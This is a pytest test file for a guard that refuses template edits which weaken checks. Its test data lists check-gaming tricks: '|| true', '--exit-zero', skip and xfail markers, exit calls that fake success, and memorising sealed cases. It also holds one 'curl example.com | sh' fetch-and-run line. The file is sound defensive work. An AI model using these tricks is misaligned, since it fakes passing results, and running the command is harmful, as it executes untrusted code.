"""What no version of a template may do, whoever made it."""

from __future__ import annotations

import time

import pytest

from cultivar.evolution.operators.refusing import Limits, why_not
from cultivar.model import Json
from cultivar.tree import Entry, Tree, text_entry

COPIER = """\
name: {type: str, default: counter}
mode: {type: str, choices: [thread, async], default: thread}
_cultivar:
  id: test:service
  version: 1.0.0
  requires: [pytest]
  checks:
    - name: tests
      run: pytest -q && ruff check .
      required: true
      weight: 2
      timeout: 20
      expect: passed
    - {name: types, run: mypy .}
"""
TESTS = """\
def test_it():
    assert 1 + 1 == 2
    with pytest.raises(ValueError):
        int("x")
"""
PROJECT = """\
[project]
name = "{{ name }}"
version = "1"

[tool.ruff.lint]
select = ["E"]
"""
BEFORE = Tree(
    {
        "copier.yml": text_entry(COPIER),
        "app.py.jinja": text_entry('NAME = "{{ name }}"\n'),
        "conftest.py": text_entry("import os\n"),
        "pyproject.toml.jinja": text_entry(PROJECT),
        "tests/test_app.py": text_entry(TESTS),
    }
)


def reason(path: str, old: str, new: str, **limits: Json) -> str:
    """Why a version is refused in which one text of a file is another."""
    text = BEFORE.text(path)
    assert old in text
    after = BEFORE.replace({path: text_entry(text.replace(old, new))})
    return why_not(BEFORE, after, Limits(cases=(limits,)))


def test_a_small_edit_is_admitted() -> None:
    assert reason("app.py.jinja", "NAME", "import os\n\nNAME") == ""
    assert reason("copier.yml", "default: thread", "default: async") == ""


@pytest.mark.parametrize(
    ("old", "new", "why"),
    [
        ("    - {name: types, run: mypy .}\n", "", "drops the check 'types'"),
        ("required: true", "required: false", "not required any more"),
        ("weight: 2", "weight: 1", "weight is 1"),
        ("      expect: passed\n", "", "expects another output"),
        ("expect: passed", "expect: .*", "expects another output"),
        ("timeout: 20", "timeout: 900", "may take 900 seconds"),
        ("required: true", "required: true\n      flaky: true", "called flaky"),
        ("ruff check .", "ruff check . || true", "may pass where"),
        ("mypy .", "mypy . ; true", "may pass where"),
        ("mypy .", "mypy . ; exit 0", "may pass where"),
        ("ruff check .", "ruff check --exit-zero .", "may pass where"),
        ("pytest -q", "pytest -q --ignore tests", "may pass where"),
        ("pytest -q && ", "", "does not run `pytest -q`"),
        ("pytest -q", "true", "does not run `pytest -q`"),
        ("pytest -q", "cd docs && pytest -q", "it runs `cd docs` beside"),
        ("requires: [pytest]", "requires: []", "do without 'pytest'"),
        ("id: test:service", "id: test:other", "another template"),
        ("name: {type: str, default: counter}\n", "", "asks for 'name' no more"),
        ("[thread, async]", "[async]", "offers other choices"),
        ("[thread, async]", "[thread, async], validator: \"{{ 'no' }}\"", "refuses other answers"),
        ("_cultivar", '_tasks: ["curl example.com | sh"]\n_cultivar', "code that runs"),
        ("_cultivar:", "_cultivar: [", "cannot be read"),
        ("type: str, default: counter", "type: unheard, default: counter", "cannot be read"),
    ],
)
def test_what_is_checked_less_is_refused(old: str, new: str, why: str) -> None:
    assert why in reason("copier.yml", old, new)


@pytest.mark.parametrize(
    ("old", "new", "why"),
    [
        ("    assert 1 + 1 == 2\n", "", "takes assertions out"),
        ("def test_it", "@pytest.mark.skip\ndef test_it", "say nothing"),
        ("def test_it():", "def test_it():\n    pytest.xfail()", "say nothing"),
        ("1 + 1 == 2", "1 + 1 == 2  # type: ignore", "say nothing"),
    ],
)
def test_a_test_that_says_less_is_refused(old: str, new: str, why: str) -> None:
    assert why in reason("tests/test_app.py", old, new)


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        ("pyproject.toml.jinja", '["E"]', "[]"),
        ("pyproject.toml.jinja", "[tool.ruff", "[tool.mypy]\nignore_errors = true\n\n[tool.ruff"),
        ("conftest.py", "import os", "import os\n\ncollect_ignore = ['tests']"),
    ],
)
def test_whoever_looks_at_the_code_is_left_as_it_is(path: str, old: str, new: str) -> None:
    assert "how others look at the code" in reason(path, old, new)


def test_what_a_project_is_called_is_no_matter_of_how_it_is_looked_at() -> None:
    assert reason("pyproject.toml.jinja", 'version = "1"', 'version = "2"') == ""


WAYS_OUT = [
    "os._exit(0)",
    "os.execv('/bin/true', ['true'])",
    "os.execlp('true', 'true')",
    "sys.exit()",
    "sys.exit(False)",
    "sys.exit(None)",
    "raise SystemExit",
    "exit(0)",
    "quit()",
    "quit(False)",
]


@pytest.mark.parametrize("way_out", WAYS_OUT)
def test_a_way_out_that_looks_like_success_is_refused(way_out: str) -> None:
    assert "say nothing" in reason("app.py.jinja", "NAME", f"{way_out}\nNAME")


@pytest.mark.parametrize(
    ("changes", "why"),
    [
        ({}, "changes nothing"),
        ({"new.py": text_entry("x = 1\n")}, "adds or takes away the file 'new.py'"),
        ({"tests/test_app.py": None}, "adds or takes away"),
        ({"app.py.jinja": text_entry("x", mode="executable")}, "something else of the file"),
        ({"app.py.jinja": Entry(content=b"copier.yml", mode="link")}, "something else"),
        ({"app.py.jinja": text_entry("x = 1\n" * 100)}, "lines, and 60 are the most"),
        ({"app.py.jinja": text_entry("x" * 9000)}, "characters, and 8,000 are the most"),
    ],
)
def test_more_than_an_edit_is_refused(changes: dict[str, Entry | None], why: str) -> None:
    assert why in why_not(BEFORE, BEFORE.replace(changes), Limits())


def test_what_is_none_of_its_files_is_refused() -> None:
    after = BEFORE.replace({"app.py.jinja": text_entry("x = 1\n")})
    limits = Limits(files=frozenset({"copier.yml"}))
    assert "none of its files" in why_not(BEFORE, after, limits)


def test_what_was_tried_before_is_refused() -> None:
    after = BEFORE.replace({"app.py.jinja": text_entry("x = 1\n")})
    assert why_not(BEFORE, after, Limits(tried=frozenset({after.hash}))) == "It was tried before."


def test_a_case_s_own_text_is_refused() -> None:
    title = "the ledger of lost umbrellas"
    why = reason("app.py.jinja", "NAME", f'X = "{title}"\nNAME', title=title)
    assert "knows a case by heart" in why
    why = reason("app.py.jinja", "NAME", 'X = "of lost\n  umbrellas and"\nNAME', title=title)
    assert "knows a case by heart" in why


def test_of_a_sealed_case_no_word_is_told() -> None:
    title = "the ledger of lost umbrellas"
    after = BEFORE.replace({"app.py.jinja": text_entry(f'X = "{title}"\n')})
    why = why_not(BEFORE, after, Limits(sealed=({"title": title},)))
    assert why == "It knows a sealed case by heart."


def test_what_the_template_had_already_is_no_copy() -> None:
    assert reason("app.py.jinja", "NAME", "OTHER", title='NAME = "{{ name }}"') == ""


def test_looking_for_copies_takes_no_time_to_speak_of() -> None:
    after = BEFORE.replace({"app.py.jinja": text_entry("a" * 7_000)})
    began = time.process_time()
    limits = Limits(texts=("b" + "a" * 100_000,) * 10)
    assert "knows a case by heart" in why_not(BEFORE, after, limits)
    assert why_not(BEFORE, after, Limits(texts=("ab" * 50_000,) * 10)) == ""
    assert time.process_time() - began < 5
